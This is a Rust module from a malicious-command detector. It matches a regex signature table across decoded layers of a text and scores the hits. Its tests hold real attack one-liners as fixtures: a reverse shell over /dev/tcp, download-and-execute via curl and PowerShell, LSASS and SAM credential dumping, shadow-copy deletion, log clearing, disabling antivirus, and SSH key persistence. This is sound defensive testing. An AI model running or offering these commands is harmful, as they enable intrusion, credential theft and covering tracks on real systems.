//! Runs the signature table over every decoding layer of a text: one pass of a compiled
//! [`regex::RegexSet`] per layer says which patterns match, and only those are run again to
//! cut the evidence out. A pattern found in any layer counts once, with the first layer it
//! was seen in (so an analyst sees whether it was visible before decoding).

use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use serde::Serialize;

use crate::patterns::{PATTERNS, Pattern};

/// Longest evidence excerpt kept.
const MAX_EVIDENCE: usize = 160;

/// One pattern found.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Hit {
    pub id: &'static str,
    pub name: &'static str,
    pub attack: &'static [&'static str],
    pub weight: f32,
    /// The matched text (cut to a readable length).
    pub evidence: String,
    /// Index of the first layer it was found in (0: the text as submitted).
    pub layer: usize,
}

/// The compiled table.
pub struct Signatures {
    set: RegexSet,
    each: Vec<Regex>,
}

impl Signatures {
    /// Compiles [`PATTERNS`]; the table is constant, so failure is a bug caught by tests.
    #[allow(clippy::expect_used)] // a constant table, compiled by every test
    pub fn new() -> Signatures {
        Self::compile(PATTERNS).expect("the signature table compiles")
    }

    fn compile(patterns: &[Pattern]) -> Result<Signatures, regex::Error> {
        let set = RegexSetBuilder::new(patterns.iter().map(|p| p.re))
            .case_insensitive(true)
            .size_limit(1 << 26)
            .dfa_size_limit(1 << 24)
            .build()?;
        let each = patterns
            .iter()
            .map(|p| {
                RegexBuilder::new(p.re)
                    .case_insensitive(true)
                    .size_limit(1 << 24)
                    .build()
            })
            .collect::<Result<_, _>>()?;
        Ok(Signatures { set, each })
    }

    /// The patterns found in any of `layers`, in table order.
    pub fn scan<'a>(&self, layers: impl IntoIterator<Item = &'a str>) -> Vec<Hit> {
        let mut first_layer: Vec<Option<(usize, &'a str)>> = vec![None; PATTERNS.len()];
        for (li, text) in layers.into_iter().enumerate() {
            for i in self.set.matches(text).iter() {
                if first_layer[i].is_none() {
                    first_layer[i] = Some((li, text));
                }
            }
        }
        first_layer
            .iter()
            .enumerate()
            .filter_map(|(i, seen)| {
                let (layer, text) = (*seen)?;
                let p = &PATTERNS[i];
                let evidence = self.each[i]
                    .find(text)
                    .map(|m| excerpt(m.as_str()))
                    .unwrap_or_default();
                Some(Hit {
                    id: p.id,
                    name: p.name,
                    attack: p.attack,
                    weight: p.weight,
                    evidence,
                    layer,
                })
            })
            .collect()
    }
}

impl Default for Signatures {
    fn default() -> Self {
        Self::new()
    }
}

fn excerpt(s: &str) -> String {
    let s = s.trim();
    if s.len() <= MAX_EVIDENCE {
        return s.to_string();
    }
    let mut end = MAX_EVIDENCE;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

/// The signature view's score, 0–1: independent evidence compounds (noisy-or of the weights).
pub fn combined_weight(hits: &[Hit]) -> f32 {
    1.0 - hits.iter().fold(1.0f32, |acc, h| acc * (1.0 - h.weight))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(hits: &[Hit]) -> Vec<&str> {
        hits.iter().map(|h| h.id).collect()
    }

    #[test]
    fn behaviour_is_recognised_with_its_technique() {
        let s = Signatures::new();
        let cases: &[(&str, &str, &str)] = &[
            (
                "curl -fsSL http://x.sh | sudo bash",
                "download-pipe-shell",
                "T1105",
            ),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
                "download-execute-powershell",
                "T1059.001",
            ),
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "reverse-shell-devtcp",
                "T1059.004",
            ),
            (
                "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
                "lsass-dump",
                "T1003.001",
            ),
            (
                "reg save HKLM\\SAM C:\\t\\sam",
                "sam-hive-dump",
                "T1003.002",
            ),
            (
                "vssadmin delete shadows /all /quiet",
                "recovery-inhibited",
                "T1490",
            ),
            (
                "schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
                "scheduled-task",
                "T1053.005",
            ),
            ("wevtutil cl Security", "log-cleared", "T1070.001"),
            (
                "Set-MpPreference -DisableRealtimeMonitoring $true",
                "av-disabled",
                "T1685",
            ),
            (
                "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
                "ssh-key-added",
                "T1098.004",
            ),
        ];
        for (text, id, technique) in cases {
            let hits = s.scan([*text]);
            let hit = hits
                .iter()
                .find(|h| h.id == *id)
                .unwrap_or_else(|| panic!("{id} not in {:?} for {text}", ids(&hits)));
            assert!(hit.attack.contains(technique), "{id}");
            assert!(!hit.evidence.is_empty());
        }
    }

    #[test]
    fn plain_administration_stays_quiet_or_light() {
        let s = Signatures::new();
        for text in [
            "ls -la /home",
            "git commit -m 'fix'",
            "Get-ChildItem C:\\Users",
            "tar -xzf a.tar.gz",
            "docker ps",
        ] {
            let hits = s.scan([text]);
            assert!(combined_weight(&hits) < 0.2, "{text}: {:?}", ids(&hits));
        }
    }

    #[test]
    fn a_pattern_counts_once_at_its_first_layer() {
        let s = Signatures::new();
        let hits = s.scan([
            "powershell -enc AAAA",
            "IEX (New-Object Net.WebClient).DownloadString('http://a')",
        ]);
        let h = hits
            .iter()
            .find(|h| h.id == "download-execute-powershell")
            .unwrap();
        assert_eq!(h.layer, 1);
        assert_eq!(hits.iter().filter(|h| h.id == h.id).count(), hits.len());
    }
}
